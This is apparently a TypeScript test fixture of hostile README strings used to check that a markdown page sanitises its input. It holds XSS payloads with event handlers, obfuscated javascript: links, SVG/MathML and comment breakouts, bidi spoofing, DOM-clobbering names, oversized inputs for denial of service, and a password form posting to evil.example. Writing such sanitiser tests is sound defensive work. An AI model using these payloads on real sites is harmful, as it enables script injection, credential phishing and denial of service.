/** Readmes that try what a page must not let them, by what they try. */
export const hostileReadmes: Readonly<Record<string, string>> = {
  'script in every place': `# <script>window.hit=1</script><img src=x onerror="window.hit=1">

<script src="https://evil.example/x.js"></script><img src="/favicon.svg" onload="window.hit=1">
<body onload="window.hit=1"><a href="#" onclick="window.hit=1">click</a><details ontoggle="window.hit=1" open><p>x</details>

\`\`\`"><script>window.hit=1</script>
</code></pre><script>window.hit=1</script>
\`\`\`

[x]("onmouseover="window.hit=1) ![x](x"onerror="window.hit=1) <p><script>window.hit=1</p>`,
  'SVG and MathML': `<svg onload="window.hit=1"><script>window.hit=1</script><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject><animate onbegin="window.hit=1"/></svg>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;"></math>`,
  'addresses of other schemes': `[a](javascript:window.hit=1) [b](data:text/html,<script>window.hit=1</script>) <a href="&#x6A;avascript:window.hit=1">c</a> <a href="java\tscript:window.hit=1">d</a> [e](vbscript:x) [f](blob:https://x) <img src="data:image/svg+xml,<svg/>"> <https://evil.example>

<javascript:window.hit=1>

[g]: javascript:window.hit=1

[g]`,
  'bidirectional text': `# \u202egnp.exe\u2066\u2067

\u202e\u202d\u2068 evil\u0000\u0007 [\u202eelgoog.com](https://evil.example) ${'\u202b'.repeat(2_000)}`,
  'giant tables': `|${'a|'.repeat(1_500)}\n|${'-|'.repeat(1_500)}\n${'b\n'.repeat(3_000)}`,
  'nested quotes, lists and emphasis': `${'> '.repeat(50_000)}a\n\n${'- '.repeat(50_000)}b\n\n${'*a **b '.repeat(20_000)}\n\n${'<div>'.repeat(50_000)}`,
  'entities and comments': `${'&lt;script&gt;window.hit=1&lt;/script&gt;&#0;&#xD800;&notin;'.repeat(3_000)}

<!-- <script>window.hit=1</script> --!><script>window.hit=1</script> <!--> <script>window.hit=1</script> -->
<![CDATA[<script>window.hit=1</script>]]> <?php echo 1 ?> <!doctype html>`,
  'a base, a form and a refresh': `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">

<form action="https://evil.example" method="post"><label>Password <input name="password" type="password"></label><button formaction="javascript:window.hit=1">Sign in</button><select><option>x</select><textarea>y</textarea></form>

<object data="https://evil.example/x"></object><embed src="https://evil.example"><iframe src="https://evil.example"></iframe><video src="https://evil.example" autoplay></video><audio src="https://evil.example"></audio><portal src="https://evil.example"></portal>`,
  'styles and classes': `<style>* { display: none }</style><p style="position:fixed;inset:0;background:url(https://evil.example/x)" class="notice search">over everything</p>

<div class="island" data-src="https://evil.example/x.js" data-props="{}">an island</div><a class="skip" href="https://evil.example">skip</a>`,
  'names that scripts look for': `${[
    'location',
    'document',
    'content',
    'submit',
    'attributes',
    '__proto__',
    'querySelectorAll',
    'cookie',
  ]
    .map(
      (name) =>
        `<a id="${name}" name="${name}" href="https://evil.example">${name}</a><img name="${name}"><form id="${name}"></form>\n\n# ${name}\n\n# ${name}\n\n`,
    )
    .join('')}</div></section></main></body></html><main>out</main>`,
};
